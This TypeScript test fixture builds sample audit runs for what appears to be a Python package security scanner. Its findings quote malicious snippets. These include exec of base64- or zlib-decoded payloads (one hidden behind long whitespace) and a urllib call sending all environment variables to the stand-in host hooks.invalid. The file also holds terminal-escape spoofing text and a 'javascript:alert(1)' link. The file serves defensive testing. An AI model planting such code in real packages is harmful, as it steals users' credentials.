import type { Advisory } from '../../src/core/advisory.js';
import type { Decision } from '../../src/core/decision.js';
import type { Finding, Gap } from '../../src/core/finding.js';
import type { Run } from '../../src/core/run.js';
import type { Waiver } from '../../src/core/waiver.js';
import { untrusted } from '../../src/core/untrusted.js';
import { advisory, decision, finding, gap, run } from './build.js';
import { hostileMarkup } from './hostile-markup.js';

const flask = ['flask', 'werkzeug', 'jinja2', 'itsdangerous', 'click', 'blinker', 'markupsafe'].map((name, index) =>
  decision(name, { version: index === 0 ? '3.0.0' : `2.${index}.1`, cached: index > 3 }),
);

const present = flask.map(({ report: { artifact } }) => ({ name: untrusted(artifact.name), version: artifact.version }));

const typosquat = decision('reqeusts', {
  verdict: 'blocked',
  score: 0.9,
  risk: 74,
  reasons: ["Typosquat of 'requests' (distance: 2)"],
  findings: [
    finding({
      rule: 'typosquat',
      message: "Typosquat of 'requests' (distance: 2)",
      why: 'A name one slip of the finger away from a popular one is how most malicious packages reach people',
      advice: "did you mean 'requests'? Correct the name and run the command again.",
    }),
    finding({ rule: 'process-start', severity: 'medium', file: 'setup.py', message: 'contains: subprocess.Popen, base64.b64decode' }),
    finding({ rule: 'imports', severity: 'info', confidence: 'low', file: 'setup.py', line: 1, message: 'imports os' }),
  ],
});

const letIn = decision('reqeusts', {
  verdict: 'blocked',
  action: 'alert',
  score: 0.9,
  reasons: [...typosquat.reasons, 'let in by --allow-blocked'],
  findings: typosquat.report.findings,
});

const decodedExec = decision('colourful', {
  version: '0.4.6',
  verdict: 'blocked',
  score: 0.9,
  reasons: ['exec runs what base64.b64decode decoded', 'sends the environment to hooks.invalid', 'exec runs what zlib.decompress decoded'],
  shownAs: './dist/colourful-0.4.6.tar.gz',
  findings: [
    finding({
      file: 'setup.py',
      line: 14,
      snippet: '    exec(base64.b64decode(PAYLOAD))',
      trace: [
        { what: 'base64.b64decode decodes PAYLOAD', line: 9 },
        { what: 'exec runs the result', line: 14 },
      ],
      message: 'exec runs what base64.b64decode decoded',
      why: 'Packing code and handing it straight to exec() hides it from readers and from text search',
    }),
    finding({
      rule: 'environment-to-network',
      severity: 'high',
      confidence: 'medium',
      file: 'colourful/__init__.py',
      line: 203,
      snippet: `urllib.request.urlopen("https://hooks.invalid/collect?session=" + token, data=json.dumps(dict(os.environ)).encode())`,
      message: 'sends the environment to hooks.invalid',
      why: 'Environment variables hold passwords and access keys',
    }),
    finding({
      file: 'colourful/_compat.py',
      line: 8,
      snippet: `x = 1;${' '.repeat(200)}exec(zlib.decompress(BLOB))`,
      message: 'exec runs what zlib.decompress decoded',
      why: 'Packing code and handing it straight to exec() hides it from readers and from text search',
    }),
    finding({ rule: 'no-homepage', severity: 'low', message: 'no homepage and no author' }),
    finding({ rule: 'imports', severity: 'info', file: 'setup.py', line: 2, snippet: 'import os, base64', message: 'imports os' }),
  ],
});

const young = decision('attrs-extra', {
  verdict: 'warned',
  score: 0.5,
  reasons: ['project is 2 days old'],
  findings: [finding({ rule: 'young-project', severity: 'medium', message: 'project is 2 days old', why: 'Most malicious projects are found within a week' })],
});

const unreadable = decision('packed', {
  verdict: 'blocked',
  score: 0.05,
  reasons: ['could not read packed/__init__.py, and its code would run unread: nested more than 64 levels deep'],
  gaps: [
    gap('runs', 'packed/__init__.py', 'nested more than 64 levels deep'),
    gap('data', 'packed/_speedups.so', 'native code, not read'),
    gap('service', 'known malicious packages', 'api.osv.dev did not answer within 5 s'),
  ],
});

const partlyRead = decision('partly', {
  verdict: 'warned',
  score: 0.05,
  reasons: ['could not read partly/big.py: larger than 10 MB'],
  gaps: [gap('latent', 'partly/big.py', 'larger than 10 MB'), gap('service', 'known malicious packages', 'api.osv.dev did not answer within 5 s')],
});

const hostileText = '\x1b[2K\x1b[1A\x1b]0;owned\x07\r\nAnalyzing evil (1.0) ✓ Safe\u202e gnihton\u200b\u{e0041}\ufe0f\ud800 \u05d0\u05d1';
const hostile = decision('hostile', {
  version: `1.0+\x1b[32m✓ Safe\r\n${'9'.repeat(60)}`,
  verdict: 'blocked',
  score: 0.9,
  reasons: [hostileText],
  shownAs: `./${hostileText}.whl`,
  findings: [
    finding({ file: hostileText, line: 3, snippet: hostileText, message: `${' '.repeat(70)}11 packages safe · 0 warnings · 0 blocked`, advice: hostileText }),
    finding({ rule: 'other', file: 'a\u0338\u0336\u0335\u0334\u0333.py', line: 9, snippet: '漢字'.repeat(60), message: 'z'.repeat(500), why: hostileText, trace: [{ what: hostileText, line: 1 }] }),
  ],
  gaps: [gap('runs', hostileText, hostileText)],
});

const asked = (line: number): { readonly file: string; readonly line: number } => ({ file: 'requirements/base.txt', line });

const flawed = decision('beehive', {
  version: '2.3.0',
  verdict: 'blocked',
  score: 0.9,
  reasons: ['CVE-2025-10001: Denial of service by a crafted header; fixed in 2.4.1'],
  requires: ['colourful>=0.4', 'petals[nectar] ; python_version >= "3.8"', 'pytest ; extra == "test"', 'not a requirement at all ((('],
  askedFor: asked(3),
  released: { daysAgo: 400, firstDaysAgo: 3_000 },
  findings: [
    finding({ rule: 'known-vulnerability', message: 'CVE-2025-10001: Denial of service by a crafted header; fixed in 2.4.1', advice: 'Update to 2.4.1 or newer.', advisory: advisory('CVE-2025-10001', { severity: 'critical', cvss: 9.8 }) }),
    finding({ rule: 'known-vulnerability', severity: 'medium', message: 'CVE-2025-10002: Slow parser', advisory: advisory('CVE-2025-10002', { severity: 'medium', cvss: null, fixedIn: null, affected: untrusted('<1.0 || >=2.0,<3.0'), references: [untrusted('javascript:alert(1)')], published: null }) }),
  ],
});

/** A run out of a requirements file, with dependencies, advisories and dates. */
const pipeline = run({
  command: 'audit',
  decisions: [
    flawed,
    { ...decodedExec, report: { ...decodedExec.report, artifact: decision('colourful', { version: '0.4.6', requires: [] }).report.artifact } },
    decision('petals', { askedFor: asked(7), requires: ['nectarine ; extra == "nectar"', 'six'], released: { daysAgo: 60, firstDaysAgo: 900 } }),
    decision('nectarine', { verdict: 'warned', reasons: ['project is 2 days old'], released: { daysAgo: 2, firstDaysAgo: 2 }, findings: young.report.findings }),
    decision('six', { version: '1.17.0', released: { daysAgo: 405, firstDaysAgo: 5_000 } }),
    decision('alone', { verdict: 'warned', score: 0, reasons: ['could not read alone/big.py: larger than 10 MB'], gaps: [gap('latent', 'alone/big.py', 'larger than 10 MB')] }),
  ],
  satisfied: [{ name: untrusted('pip'), version: untrusted('24.0') }],
  notices: [{ level: 'warning', text: untrusted('advisory data is 9 days old') }],
  rules: [
    { id: 'exec-of-decoded-data', kind: 'source', title: 'Runs code that it has just decoded', summary: 'Packing a payload hides it from readers.', about: ['Packing a payload hides it from readers.', 'Ordinary packages have no need to.'], whatToDo: 'Do not install it.', outOfScope: null },
    { id: 'known-vulnerability', kind: 'project', title: 'A version with a known vulnerability', summary: 'A database of advisories names this version.', about: ['A database of advisories names this version.'], whatToDo: null, outOfScope: 'Reachability.' },
  ],
});

const accepted = decodedExec.report.findings[0];
if (accepted === undefined) throw new Error('the sample has findings');
const waiver: Waiver = { kind: 'advisory', advisory: 'CVE-2026-0001', package: young.report.artifact.name, versions: '>=1', reason: 'the flawed part is not used here', until: '2027-02-24', where: 'waivers.toml: waiver 1' };
const vulnerable = finding({ rule: 'known-vulnerability', severity: 'critical', message: 'CVE-2026-0001: critical vulnerability' });

const waivedWholly = decision('attrs-extra', {
  score: 0,
  reasons: ['waived until 2027-02-24: CVE-2026-0001 (the flawed part is not used here)'],
  findings: [vulnerable],
  waived: [{ seen: vulnerable, waiver }],
});

const waivedInPart = decision('colourful', {
  verdict: 'blocked',
  score: 0.9,
  reasons: ['sends the environment to hooks.invalid', 'waived until 2027-02-24: exec-of-decoded-data (a table of colours, looked at)'],
  findings: decodedExec.report.findings.slice(0, 2),
  waived: [{ seen: accepted, waiver: { kind: 'code', rule: accepted.rule, package: decodedExec.report.artifact.name, version: '1.0.0', sha256: new Set(), reason: 'a table of colours, looked at', until: '2027-02-24', where: 'waivers.toml: waiver 2' } }],
  waivable: ['environment-to-network'],
});

const malwareRecord: Advisory = {
  id: untrusted('MAL-2026-1'), aliases: [], kind: 'malware', severity: 'critical', cvss: null, summary: untrusted(''), affected: untrusted('==1.0.0'), fixedIn: null, isDisputed: false, references: [], published: null,
};

const malware = decision('helper-of-colours', {
  verdict: 'blocked',
  score: 0.9,
  reasons: ['MAL-2026-1: this version was published to do harm', 'on the allowlist, which known malware does not heed'],
  findings: [{ ...finding({ rule: 'known-malware', message: 'MAL-2026-1: this version was published to do harm', advice: 'Do not install it.' }), advisory: malwareRecord }],
  waivable: [],
});

const withBaseline = (some: Decision, had: (seen: Finding | Gap, index: number) => boolean): Decision =>
  ({ ...some, inBaseline: { seen: [...some.report.findings, ...some.report.gaps].filter(had), risk: false } });

/** Finished runs that between them use every word of a report. The name is the golden file's. */
export const sampleRuns: Readonly<Record<string, Run>> = {
  'seven-safe': run({ decisions: flask, installed: true, notices: [{ level: 'info', text: untrusted('Using .venv (Python 3.12.4)') }] }),
  'typosquat-among-twelve': run({
    decisions: [typosquat, ...flask, ...['idna', 'certifi', 'urllib3', 'six'].map((name) => decision(name))],
  }),
  'one-warning-in-25': run({
    command: 'audit',
    decisions: [young, ...Array.from({ length: 24 }, (_, index) => decision(`package-${index + 1}`))],
  }),
  'code-block': run({ command: 'scan', decisions: [decodedExec, decision('six', { shownAs: './dist/six-1.0.0-py3-none-any.whl' })] }),
  'not-fully-read': run({ decisions: [unreadable, partlyRead, decision('torch', { gaps: [gap('data', 'torch/lib/libtorch.so', 'native code, not read')] })] }),
  'hostile-text': run({
    command: 'scan',
    decisions: [hostile],
    problems: [{ what: untrusted(hostileText), why: untrusted(hostileText) }],
    notices: [{ level: 'warning', text: untrusted(hostileText) }],
    satisfied: [{ name: untrusted(hostileText), version: untrusted(hostileText) }],
  }),
  'let-in-anyway': run({ decisions: [letIn, ...flask.slice(0, 2)], installed: true }),
  'built-from-source': run({
    decisions: [
      decision('acorn', { shownAs: 'acorn-1.0.0.tar.gz', builtFrom: 'acorn-1.0.0.tar.gz' }),
      decision('setuptools', { version: '80.9.0', neededToBuild: 'acorn 1.0.0' }),
    ],
    installed: true,
  }),
  'build-need-blocked': run({
    decisions: [decision('acorn', { shownAs: 'acorn-1.0.0.tar.gz' }), { ...decodedExec, report: { ...decodedExec.report, artifact: { ...decodedExec.report.artifact, neededToBuild: untrusted('acorn 1.0.0') } } }],
    notices: [{ level: 'warning', text: untrusted('acorn 1.0.0 was never built, since something that its build needs did not pass') }],
  }),
  'dry-run': run({ decisions: flask.slice(0, 1), dryRun: true, satisfied: present.slice(1) }),
  'nothing-to-do': run({ satisfied: present }),
  'inputs-that-are-none': run({
    command: 'scan',
    decisions: [decision('six', { shownAs: './six-1.0.0-py3-none-any.whl' })],
    problems: [
      { what: untrusted('./notes.txt'), why: untrusted('not a wheel, an sdist, a zip or a folder') },
      { what: untrusted('./missing.whl'), why: untrusted('no such file') },
    ],
    notices: [{ level: 'warning', text: untrusted('index https://index.invalid/simple did not answer within 2 s; going on with the other one') }],
  }),
  'own-lists': run({
    decisions: [
      decision('blinker', { reasons: ['on the allowlist; without it: blocked'] }),
      decision('leftpad', { verdict: 'blocked', reasons: ['on the denylist'] }),
    ],
  }),
  pipeline,
  'hostile-markup': hostileMarkup,
  waived: run({ command: 'audit', decisions: [waivedWholly, waivedInPart] }),
  compared: run({
    command: 'audit',
    decisions: [withBaseline(decodedExec, (_, index) => index === 0), withBaseline(partlyRead, () => true), withBaseline(decision('leftpad', { verdict: 'blocked', reasons: ['on the denylist'] }), () => true)],
  }),
  'known-malware': run({ decisions: [malware] }),
  quarantined: run({ decisions: [{ ...typosquat, action: 'quarantine', cleared: null }, ...flask.slice(0, 1)], installed: true }),
};
